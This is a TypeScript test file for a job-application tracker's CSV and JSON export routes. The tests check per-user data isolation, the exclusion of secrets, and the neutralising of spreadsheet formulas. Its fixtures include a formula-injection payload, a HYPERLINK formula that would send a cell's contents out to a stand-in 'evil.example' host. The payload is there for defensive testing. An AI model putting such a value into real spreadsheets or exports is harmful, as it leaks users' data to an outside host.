import Papa from 'papaparse';
import { eq } from 'drizzle-orm';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { GET as exportCsv } from '@/app/(app)/applications/export/route';
import { importStep } from '@/app/(app)/applications/import/import-step';
import { GET as exportJson } from '@/app/(app)/settings/export/route';
import { changeStage } from '@/db/queries/applications';
import { findOrCreateContact, linkContact } from '@/db/queries/contacts';
import { accounts, interviewAttendees, interviews, sessions, stageChanges } from '@/db/schema';
import { getUser, type SessionUser } from '@/lib/auth/user';
import { correctStageChangeDate } from '@/server/applications/correct-stage-date';
import { createApplication } from '@/server/applications/create-application';
import { applicationsOf, csvFile, previewForm, previewIn, redirectOf, seedPerson, uploadForm } from '../import/import-helpers';
import { setupTestDatabase } from '../support/database';

vi.mock('@/lib/auth/user', () => ({ getUser: vi.fn(), requireUser: vi.fn() }));
vi.mock('next/cache', () => ({ revalidatePath: vi.fn() }));

const database = setupTestDatabase();
let ada: SessionUser;
let grace: SessionUser;

const blank = { jobUrl: null, location: null, source: null, appliedOn: null, notes: null };

/** Ada's search: an application moved along with corrected dates, a formula-looking one, a contact met at an interview. Grace has her own. */
async function seedSearches() {
  const rocket = await createApplication(ada.id, { ...blank, company: 'Acme Rockets', position: 'Flight Engineer', stage: 'wishlist', location: 'Berlin' });
  const [first] = await database.db.select().from(stageChanges).where(eq(stageChanges.applicationId, rocket.id));
  await correctStageChangeDate(ada.id, first.id, new Date('2026-01-02T10:00:00Z'));
  await changeStage(ada.id, rocket.id, 'applied', { at: new Date('2026-01-05T09:00:00Z') });
  await changeStage(ada.id, rocket.id, 'interviewing', { at: new Date('2026-01-20T09:00:00Z') });
  await createApplication(ada.id, {
    ...blank,
    company: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    position: '@SUM(1)',
    notes: '-2+3',
    jobUrl: 'https://jobs.example/1',
  });
  const { contact } = await findOrCreateContact(database.db, ada.id, { name: 'Grace Hopper', email: 'grace@navy.example', title: null, phone: null, linkedinUrl: null, notes: null });
  await linkContact(database.db, ada.id, { applicationId: rocket.id, contactId: contact.id, role: 'interviewer', isPrimary: true });
  const [interview] = await database.db
    .insert(interviews)
    .values({ userId: ada.id, applicationId: rocket.id, scheduledAt: new Date('2026-01-21T14:00:00Z'), kind: 'video', impression: 'The launch pad' })
    .returning();
  await database.db.insert(interviewAttendees).values({ userId: ada.id, interviewId: interview.id, contactId: contact.id });
  await database.db.insert(sessions).values({ userId: ada.id, sessionToken: 'secret-session-token', expires: new Date(Date.now() + 86_400_000) });
  await database.db.insert(accounts).values({ userId: ada.id, type: 'oauth', provider: 'github', providerAccountId: '42', access_token: 'secret-access-token' });

  const theirs = await createApplication(grace.id, { ...blank, company: 'Grace’s Secret Co', position: 'Admiral' });
  const { contact: theirContact } = await findOrCreateContact(database.db, grace.id, { name: 'Hidden Person', email: 'hidden@example.com', title: null, phone: null, linkedinUrl: null, notes: null });
  await linkContact(database.db, grace.id, { applicationId: theirs.id, contactId: theirContact.id, role: 'recruiter', isPrimary: true });
  return { rocket, interview, contact, theirs };
}

beforeEach(async () => {
  ada = await seedPerson(database.db, 'ada');
  grace = await seedPerson(database.db, 'grace');
  vi.mocked(getUser).mockResolvedValue(ada);
});

/** The rows of a CSV download, after checking it starts with the byte-order mark Excel needs for UTF-8. */
async function readCsvBody(response: Response) {
  const bytes = Buffer.from(await response.arrayBuffer());
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return Papa.parse<string[]>(bytes.subarray(3).toString('utf8'), { skipEmptyLines: true }).data;
}

describe('CSV export of applications', () => {
  it('downloads only the person’s applications, with the stage history as one column', async () => {
    await seedSearches();
    const response = await exportCsv();
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="afterword-applications-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.headers.get('cache-control')).toContain('no-store');
    const [header, ...rows] = await readCsvBody(response);
    expect(header).toEqual(['Company', 'Position', 'Stage', 'Date Applied', 'Job URL', 'Location', 'Source', 'Notes', 'Archived', 'Created', 'Updated', 'Stage History']);
    expect(rows).toHaveLength(2);
    const rocket = rows.find((r) => r[0] === 'Acme Rockets')!;
    expect(rocket.slice(0, 9)).toEqual(['Acme Rockets', 'Flight Engineer', 'Interviewing', '', '', 'Berlin', '', '', 'no']);
    expect(rocket[11]).toBe('wishlist 2026-01-02 → applied 2026-01-05 → interviewing 2026-01-20');
    expect(rows.flat().join(' ')).not.toContain('Secret');
  });

  it('neutralises every cell a spreadsheet would run as a formula', async () => {
    await seedSearches();
    const rows = await readCsvBody(await exportCsv());
    const formula = rows.find((r) => r[1].includes('SUM'))!;
    expect(formula.slice(0, 5)).toEqual([`'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`, "'@SUM(1)", 'Wishlist', '', 'https://jobs.example/1']);
    expect(formula[7]).toBe("'-2+3");
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('is an empty sheet with its header for a person with no applications', async () => {
    vi.mocked(getUser).mockResolvedValue(grace);
    const rows = await readCsvBody(await exportCsv());
    expect(rows).toHaveLength(1);
  });

  it('answers 401 to a signed-out visitor', async () => {
    vi.mocked(getUser).mockResolvedValue(null);
    const response = await exportCsv();
    expect(response.status).toBe(401);
    expect(response.headers.get('content-disposition')).toBeNull();
  });
});

describe('an exported file imported again', () => {
  it('maps every column by itself and gives back the applications as they were, formulas included', async () => {
    await seedSearches();
    const exported = Buffer.from(await (await exportCsv()).arrayBuffer());
    vi.mocked(getUser).mockResolvedValue(grace);
    const preview = previewIn(await importStep({ ok: false }, uploadForm(csvFile(exported))));
    expect(preview.mapping).toEqual(['company', 'position', 'stage', 'appliedOn', 'jobUrl', 'location', 'source', 'notes', 'skip', 'skip', 'skip', 'skip']);
    expect(preview.problems).toEqual([]);
    await redirectOf(importStep({ ok: false }, previewForm(preview, 'import')));
    const strip = ({ company, position, stage, appliedOn, jobUrl, notes }: Awaited<ReturnType<typeof applicationsOf>>[number]) => ({ company, position, stage, appliedOn, jobUrl, notes });
    const byCompany = (a: { company: string }, b: { company: string }) => a.company.localeCompare(b.company);
    const theirs = (await applicationsOf(database.db, grace.id)).filter((a) => a.position !== 'Admiral').map(strip).sort(byCompany);
    expect(theirs).toEqual((await applicationsOf(database.db, ada.id)).map(strip).sort(byCompany));
    expect(theirs.map((a) => a.company)).toContain('=HYPERLINK("https://evil.example/?leak="&A1,"Click")');
  });
});

describe('JSON export of everything', () => {
  it('holds every kind of row the person owns, and nothing of anyone else’s or of their sign-in secrets', async () => {
    const seeded = await seedSearches();
    const response = await exportJson();
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="afterword-export-\d{4}-\d{2}-\d{2}\.json"$/);
    const text = await response.text();
    const data = JSON.parse(text);
    expect(data).toMatchObject({ format: 'afterword-export', version: 1, profile: { id: ada.id, email: ada.email, name: 'ada' } });
    expect(Object.keys(data).sort()).toEqual(
      [
        'activities', 'applicationContacts', 'applications', 'companies', 'contacts', 'dashboardDismissals', 'digestSends', 'exportedAt', 'flaggedAddresses', 'followUpPlans', 'format',
        'interviewAttendees', 'interviews', 'letterEvents', 'letterRecipients', 'letterTemplates', 'letters', 'profile', 'replies', 'sendingLedger', 'stageChanges', 'version',
      ].sort(),
    );
    expect(data.companies).toHaveLength(2);
    expect(data.applications).toHaveLength(2);
    expect(data.stageChanges).toHaveLength(4);
    expect(data.contacts).toMatchObject([{ id: seeded.contact.id, email: 'grace@navy.example' }]);
    expect(data.applicationContacts).toMatchObject([{ applicationId: seeded.rocket.id, isPrimary: true }]);
    expect(data.interviews).toMatchObject([{ id: seeded.interview.id, impression: 'The launch pad', scheduledAt: '2026-01-21T14:00:00.000Z' }]);
    expect(data.interviewAttendees).toMatchObject([{ interviewId: seeded.interview.id, contactId: seeded.contact.id }]);
    expect(data.activities.length).toBeGreaterThanOrEqual(5);
    for (const table of ['companies', 'applications', 'stageChanges', 'contacts', 'applicationContacts', 'interviews', 'interviewAttendees', 'activities']) {
      for (const row of data[table]) expect(row.userId, table).toBe(ada.id);
    }
    for (const secret of ['secret-session-token', 'secret-access-token', grace.id, seeded.theirs.id, 'Hidden Person', 'Secret Co']) {
      expect(text).not.toContain(secret);
    }
  });

  it('answers 401 to a signed-out visitor', async () => {
    vi.mocked(getUser).mockResolvedValue(null);
    expect((await exportJson()).status).toBe(401);
  });
});
